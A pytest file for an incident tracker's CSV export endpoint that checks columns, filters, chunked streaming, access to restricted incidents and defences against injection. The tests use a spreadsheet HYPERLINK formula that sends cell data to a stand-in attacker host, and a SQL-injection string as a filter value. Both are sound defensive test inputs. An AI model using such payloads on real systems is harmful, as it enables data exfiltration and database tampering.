"""GET /incidents/export.csv: the list's filters, streamed in chunks, every cell neutralised
against formula injection, restricted incidents only for those who may see them."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from opsdeck.incidents.service import export
from opsdeck.incidents.service.incidents import IncidentFilter
from tests.conftest import API, UserFactory, error_of, sign_in
from tests.incidents.conftest import Declare

EXPORT = f"{API}/incidents/export.csv"


def _csv(client: TestClient, headers: dict[str, str], **params: Any) -> list[list[str]]:
    response = client.get(EXPORT, params=params, headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _keys(rows: list[list[str]]) -> list[str]:
    return [row[0] for row in rows[1:]]


def test_the_export_has_the_columns_and_the_rows_newest_first(
    client: TestClient,
    admin_headers: dict[str, str],
    member_headers: dict[str, str],
    catalog: None,
    declare: Declare,
) -> None:
    first = declare(member_headers, title="Disk full", severity="SEV1", category="database",
                    tags=["db", "payments"])  # fmt: skip
    second = declare(member_headers, title="Packet loss", severity="SEV3")
    assert (
        client.post(
            f"{API}/incidents/{first['number']}/transition",
            json={"to": "investigating"},
            headers=admin_headers,
        ).status_code
        == 200
    )

    rows = _csv(client, member_headers)

    assert rows[0] == list(export.COLUMNS)
    assert _keys(rows) == [f"INC-{second['number']}", f"INC-{first['number']}"]
    disk = dict(zip(rows[0], rows[2], strict=True))
    assert disk["title"] == "Disk full"
    assert disk["severity"] == "SEV1"
    assert disk["status"] == "investigating"
    assert disk["category"] == "database"
    assert disk["tags"] == "db, payments"
    assert disk["reporter"] == "mallory"
    assert disk["commander"] == ""
    assert disk["declared_at"] == first["declared_at"].replace("Z", "+00:00")
    assert disk["acknowledged_at"]
    assert disk["resolved_at"] == ""
    assert disk["closed_at"] == ""


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_formula_cells_are_neutralised(
    client: TestClient, member_headers: dict[str, str], declare: Declare, prefix: str
) -> None:
    title = f'{prefix}HYPERLINK("http://evil.example/?"&A1, "click")'
    declare(member_headers, title=title)

    rows = _csv(client, member_headers)

    assert rows[1][1] == "'" + title
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_the_list_filters_apply(
    client: TestClient, member_headers: dict[str, str], catalog: None, declare: Declare
) -> None:
    db = declare(member_headers, title="Replica lag", severity="SEV2", category="database",
                 description="postgres replication stalled", tags=["db"])  # fmt: skip
    net = declare(member_headers, title="Router flap", severity="SEV4", category="network")

    assert _keys(_csv(client, member_headers, severity="SEV2")) == [f"INC-{db['number']}"]
    assert _keys(_csv(client, member_headers, category="network")) == [f"INC-{net['number']}"]
    assert _keys(_csv(client, member_headers, tag="db")) == [f"INC-{db['number']}"]
    assert _keys(_csv(client, member_headers, q="replication")) == [f"INC-{db['number']}"]
    assert _keys(_csv(client, member_headers, status="closed")) == []
    assert _keys(_csv(client, member_headers, reporter="nobody")) == []
    assert _keys(_csv(client, member_headers, q="%")) == []
    assert _keys(_csv(client, member_headers, q="' OR 1=1 --")) == []
    assert len(_keys(_csv(client, member_headers, mine="true"))) == 2
    assert _keys(_csv(client, member_headers, until="2000-01-01T00:00:00Z")) == []


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"q": "x" * 1000}, "query.q"),
        ({"severity": "SEV9"}, "query.severity.0"),
        ({"status": "' OR 1=1 --"}, "query.status.0"),
        ({"since": "yesterday"}, "query.since"),
    ],
)
def test_bad_filters_are_a_422_before_any_byte(
    client: TestClient, member_headers: dict[str, str], params: dict[str, str], field: str
) -> None:
    response = client.get(EXPORT, params=params, headers=member_headers)

    assert response.status_code == 422, response.text
    assert field in {detail["field"] for detail in error_of(response)["details"]}


def test_a_restricted_incident_is_exported_only_to_those_who_may_see_it(
    client: TestClient,
    make_user: UserFactory,
    member_headers: dict[str, str],
    admin_headers: dict[str, str],
    declare: Declare,
) -> None:
    secret = declare(member_headers, title="Secret breach", visibility="restricted")
    public = declare(member_headers, title="Public breach")
    make_user("eve")
    eve = sign_in(client, "eve")

    assert _keys(_csv(client, eve)) == [f"INC-{public['number']}"]
    assert _keys(_csv(client, eve, q="secret")) == []
    both = [f"INC-{public['number']}", f"INC-{secret['number']}"]
    assert _keys(_csv(client, member_headers)) == both
    assert _keys(_csv(client, admin_headers)) == both


def test_rows_are_read_a_chunk_at_a_time_each_once(
    app: FastAPI, client: TestClient, member: Any, member_headers: dict[str, str], declare: Declare
) -> None:
    numbers = [declare(member_headers, title=f"Incident {i}")["number"] for i in range(7)]

    chunks = export.export_csv(app.state.sessionmaker, member, IncidentFilter(), chunk_size=3)
    text = b"".join(chunks).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(text)))
    assert _keys(rows) == [f"INC-{n}" for n in sorted(numbers, reverse=True)]


def test_the_export_needs_a_signed_in_user(client: TestClient) -> None:
    assert client.get(EXPORT).status_code == 401
